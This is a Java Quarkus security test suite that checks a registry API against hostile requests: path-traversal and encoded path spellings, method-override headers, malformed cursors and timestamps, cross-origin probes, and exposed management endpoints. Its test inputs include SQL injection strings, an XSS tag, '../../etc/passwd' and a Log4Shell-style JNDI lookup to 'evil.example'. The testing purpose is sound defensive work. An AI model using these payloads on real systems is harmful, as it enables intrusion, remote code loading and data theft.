package dev.hearken.registry.threats;

import dev.hearken.registry.Api;
import dev.hearken.registry.Keys;
import dev.hearken.registry.RawHttp;
import dev.hearken.registry.RegistryResource;
import dev.hearken.test.marks.Threat;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import java.net.URI;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.startsWith;

/** Paths, queries, methods and names that no good client sends. */
@QuarkusTest
@WithTestResource(RegistryResource.class)
class HostileRequestsTest {
    private static final String LISTS =
            "/v1/listeners /v1/variables /v1/secrets /v1/api-keys /v1/tenants /v1/replays /v1/audit /v1/deliveries /v1/dead-letters";

    @TestHTTPResource("/")
    URI server;

    @TestHTTPResource(value = "/", management = true)
    URI management;

    @BeforeEach
    void keys() {
        Api.installKeys();
    }

    private String answer(String method, String target, String key) throws Exception {
        return RawHttp.exchange(server, RawHttp.request(method, target, "Authorization: Bearer " + key));
    }

    @ParameterizedTest
    @Threat("E4")
    @ValueSource(
            strings = {
                "%s",
                "/%s",
                "%s/",
                "%s//",
                "%s;v=1",
                "%s%%3Bv=1",
                "%s?x=/v1/templates",
                "%s#/v1/templates",
                "/x/..%s",
                "/v1/templates/../..%s",
                "/v1/templates/%%2e%%2e/%%2e%%2e%s",
                "/q/openapi/../..%s",
                "/..;%s",
                "/;x=y%s",
                "/.%s",
                "/%%2e%s",
                "http://other.example%s"
            })
    void giveNoMoreThanTheRoleInAnySpellingOfAPath(String spelling) throws Exception {
        // given
        String id = Api.created("not deleted by a viewer");
        String path = Api.LISTENERS + "/" + id;

        // then
        for (String spelled : List.of(
                path,
                path.replace("/v1/", "/v1;a=b/"),
                path.replace("/listeners", "/listeners;a=b"),
                path.replace("/listeners", "//listeners"),
                path.replace("/listeners", "/./listeners"),
                path.replace("/listeners", "/x/../listeners"),
                path.replace("/listeners", "%2flisteners"),
                path.replace("/listeners", "/%6cisteners"),
                path.replace("/listeners", "/LISTENERS"))) {
            String target = spelling.formatted(spelled);
            assertThat(status(answer("DELETE", target, Keys.VIEWER))).as(target).isIn(400, 403, 404, 405);
        }
        assertThat(status(answer("GET", spelling.formatted("/v1/api-keys"), Keys.EDITOR)))
                .isIn(400, 403, 404);
        Api.get(id).then().statusCode(200);
    }

    private static int status(String answer) {
        assertThat(answer).startsWith("HTTP/1.1 ");
        return Integer.parseInt(answer.substring(9, 12));
    }

    @ParameterizedTest
    @Threat("D15")
    @ValueSource(strings = {"X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "_method"})
    void areTakenByTheirMethodAndNoOther(String header) {
        // given
        String path = Api.LISTENERS + "/" + Api.created("not deleted by a header");

        // then
        Api.as(Keys.EDITOR).header(header, "DELETE").get(path).then().statusCode(200);
        Api.as(Keys.EDITOR).header(header, "DELETE").post(path).then().statusCode(405);
        Api.as(Keys.EDITOR).queryParam(header, "DELETE").get(path).then().statusCode(200);
        Api.as(Keys.EDITOR).get(path).then().statusCode(200);
    }

    @ParameterizedTest
    @Threat("E9")
    @ValueSource(
            strings = {
                "limit=-1",
                "limit=0",
                "limit=201",
                "limit=1e9",
                "limit=abc",
                "limit=",
                "limit=0x10",
                "limit=%D9%A1",
                "limit=9223372036854775808",
                "limit=1&limit=2",
                "cursor=",
                "cursor=abc",
                "cursor=%00",
                "cursor=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
                "cursor=01JD9Z6Q0V3T8M2K4N6P8R0S2T",
                "cursor=%27%20or%201=1--",
                "offset=1000000",
                "page=2",
                "sort=secret",
                "order=desc"
            })
    void pageNoListOtherwiseThanItPages(String query) {
        for (String list : LISTS.split(" ")) {
            Response answer = Api.as(Keys.ADMIN).urlEncodingEnabled(false).get(list + "?" + query);
            assertThat(answer.statusCode())
                    .as(() -> list + "?" + query + " -> " + answer.asString())
                    .isEqualTo(400);
        }
    }

    @Test
    @Threat("E9")
    void pageNoListWithTheCursorOfAnother() {
        // given
        Api.created("first");
        Api.created("second");
        String cursor = Api.as(Keys.ADMIN).get(Api.LISTENERS + "?limit=1").path("nextCursor");

        // then
        for (String list : LISTS.split(" ")) {
            Api.as(Keys.ADMIN)
                    .queryParam("cursor", cursor)
                    .get(list)
                    .then()
                    .statusCode(list.equals(Api.LISTENERS) ? 200 : 400);
            Api.as(Keys.OTHER_TENANT)
                    .queryParam("cursor", cursor)
                    .get(list)
                    .then()
                    .statusCode(400);
        }
    }

    @ParameterizedTest
    @Threat("E10")
    @ValueSource(strings = {"https://evil.example", "http://localhost:3000", "null", "*"})
    void ofOtherOriginsAreAnsweredForNoBrowser(String origin) throws Exception {
        for (String method : List.of("GET", "POST", "DELETE", "OPTIONS")) {
            for (String authorization : List.of("X-None: x", "Authorization: Bearer " + Keys.EDITOR)) {
                // when
                String answer = RawHttp.exchange(
                        server,
                        RawHttp.request(
                                method,
                                Api.LISTENERS,
                                "Origin: " + origin,
                                "Access-Control-Request-Method: POST",
                                "Access-Control-Request-Headers: authorization",
                                authorization));

                // then
                assertThat(answer)
                        .startsWith("HTTP/1.1 ")
                        .doesNotContainIgnoringCase("access-control-")
                        .doesNotContainIgnoringCase("set-cookie")
                        .doesNotContainIgnoringCase("www-authenticate: basic");
            }
        }
    }

    @ParameterizedTest
    @Threat("E11")
    @ValueSource(
            strings = {
                "/q/health",
                "/q/health/live",
                "/q/health/ready",
                "/q/metrics",
                "/q/metrics/json",
                "/q/info",
                "/q/arc",
                "/q/arc/beans",
                "/q/dev",
                "/q/dev-ui",
                "/q/dev-v1",
                "/q/swagger-ui",
                "/q/graphql-ui",
                "/graphql",
                "/graphql/schema.graphql",
                "/q/logging-manager",
                "/q/heapdump",
                "/q/dump",
                "/actuator",
                "/jolokia",
                "/management",
                "/metrics",
                "/health"
            })
    void findNothingOfTheManagementOnTheirPort(String path) throws Exception {
        Api.as(Keys.ADMIN).get(path).then().statusCode(404);
        if (!path.startsWith("/q/health") && !path.startsWith("/q/metrics")) {
            assertThat(RawHttp.exchange(management, RawHttp.request("GET", path)))
                    .startsWith("HTTP/1.1 404 ");
        }
    }

    @ParameterizedTest
    @Threat("D14")
    @ValueSource(
            strings = {
                "\u202Egnp.exe",
                "zero\u200Bwidth\u200D",
                "../../etc/passwd",
                "%",
                "_",
                "100%_",
                "\\",
                "'; drop table listener; --",
                "\" or 1=1 --",
                "<script>alert(1)</script>",
                "${jndi:ldap://evil.example/a}",
                "%s%n%d",
                "\uD83D\uDE00",
                "e\u0301\u0301\u0301"
            })
    void showNamesAsTheyWereGiven(String hostile) {
        // given
        String name = UUID.randomUUID() + " " + hostile;
        Api.created("other " + UUID.randomUUID());

        // when
        Response created = Api.create(
                Operation.JSON.createObjectNode().put("name", name).toString().replaceFirst("}$", """
                        , "callback": {"type": "http", "url": "https://a.example/"}}"""));

        // then
        created.then().statusCode(201).contentType(startsWith("application/json"));
        Api.get(created.path("id")).then().body("name", equalTo(name));
        assertThat(Api.as(Keys.VIEWER)
                        .queryParam("name", name)
                        .get(Api.LISTENERS)
                        .<List<String>>path("items.name"))
                .containsExactly(name);
        Api.as(Keys.VIEWER)
                .queryParam("name", hostile)
                .queryParam("limit", 200)
                .get(Api.LISTENERS)
                .then()
                .body("items.name", hasItem(name));
    }

    @ParameterizedTest
    @Threat("D14")
    @ValueSource(
            strings = {
                "..%2f..%2fetc%2fpasswd",
                "%2e%2e",
                "a%00b",
                "a%0d%0ab",
                "a%25",
                "%E2%80%AEa",
                "%F0%9F%98%80",
                "a%27%3B%20drop%20table%20variable",
                "a.b",
                "a%20b",
                "-a"
            })
    void nameNoVariableOrSecretOtherwiseThanTheyAreNamed(String segment) {
        for (String kind : List.of("variables", "secrets")) {
            Response answer = Api.as(Keys.EDITOR)
                    .urlEncodingEnabled(false)
                    .contentType("application/json")
                    .body("{\"value\": \"x\"}")
                    .put("/v1/" + kind + "/" + segment);
            assertThat(answer.statusCode())
                    .as(() -> segment + " -> " + answer.asString())
                    .isIn(400, 404, 405, 422);
        }
    }

    @ParameterizedTest
    @Threat("D18")
    @ValueSource(
            strings = {
                "-0001-01-01T00:00:00Z",
                "0000-01-01T00:00:00Z",
                "1999-12-31T23:59:59Z",
                "2100-01-01T00:00:01Z",
                "9999-12-31T23:59:59Z",
                "+10000-01-01T00:00:00Z",
                "+999999999-12-31T23:59:59Z",
                "-999999999-01-01T00:00:00Z",
                "2026-02-30T00:00:00Z",
                "2026-13-01T00:00:00Z",
                "2026-01-01T00:00:60Z",
                "2016-12-31T23:59:60Z",
                "2026-01-01T24:00:01Z",
                "2026-01-01T00:00:00",
                "2026-01-01T00:00:00+25:00",
                "2026-01-01T00:00:00[Europe/Berlin]",
                "2026-01-01 00:00:00Z",
                "2026-01-01",
                "1767225600",
                "now",
                "\u0662\u0660\u0662\u0666-01-01T00:00:00Z"
            })
    void nameNoTimeThatCannotBeMeant(String time) {
        for (String list : List.of("/v1/deliveries", "/v1/dead-letters", "/v1/audit")) {
            for (String parameter : List.of("since", "until")) {
                Response answer = Api.as(Keys.ADMIN).queryParam(parameter, time).get(list);
                assertThat(answer.statusCode())
                        .as(list + " " + parameter + "=" + time)
                        .isEqualTo(400);
            }
        }
        Operation.strict()
                .flatMap(operation -> List.of("since", "until", "expiresAt").stream()
                        .filter(operation.json()::has)
                        .map(field -> operation.send(
                                "nobody", operation.json().put(field, time).toString())))
                .forEach(answer -> assertThat(answer.statusCode())
                        .as(() -> time + " -> " + answer.asString())
                        .isIn(400, 422));
    }
}
